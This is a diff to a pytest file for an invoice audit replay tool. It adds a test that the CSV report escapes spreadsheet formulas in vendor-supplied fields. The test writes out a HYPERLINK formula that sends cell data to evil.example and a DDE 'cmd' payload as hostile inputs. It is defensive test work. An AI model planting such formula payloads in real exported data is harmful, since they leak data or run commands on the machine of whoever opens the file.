@@ -12,7 +12,7 @@ from decimal import Decimal
 import pytest
 
 from audit import replay as replay_module
-from audit.replay import Selection, replay
+from audit.replay import ReplayedVerdict, ReplayReport, Selection, replay
 from audit.report import render
 from connectors.topic_reader import InMemoryTopicReader
 from rules.policy import Policy, Tolerance
@@ -128,3 +128,17 @@ def test_the_full_report_in_every_format(topic):
     assert len(rows) == len(report.items) and {"recorded_status", "rederived_status"} <= set(rows[0])
     page = render(report, "html")
     assert page.startswith("<!doctype html>") and "manual_review" in page and report.rules_version in page
+
+
+def test_the_csv_report_keeps_a_vendors_formula_as_text():
+    """An auditor opens the CSV in Excel: an id a vendor chose must not run there."""
+    hostile = ReplayedVerdict(invoice_id='=HYPERLINK("https://evil.example/?"&A1,"MP-1")', invoice_version=1,
+                              po_number="+cmd|' /C calc'!A0", recorded_at="2026-11-25T09:00:00+00:00", partition=0,
+                              offset=1, recorded_rules_version="2026.12.1", recorded_status="po_not_found",
+                              rederived_status="po_not_found", recorded_reasons=("PO_NOT_FOUND",),
+                              rederived_reasons=("PO_NOT_FOUND",), changed=False, added_reasons=(),
+                              removed_reasons=())
+    report = ReplayReport(topic=TOPIC, rules_version="2026.12.1", selection=Selection(), items=[hostile])
+    (row,) = csv.DictReader(io.StringIO(render(report, "csv")))
+    assert row["invoice_id"] == "'" + hostile.invoice_id and row["po_number"] == "'" + hostile.po_number
+    assert row["recorded_status"] == "po_not_found" and row["invoice_version"] == "1"
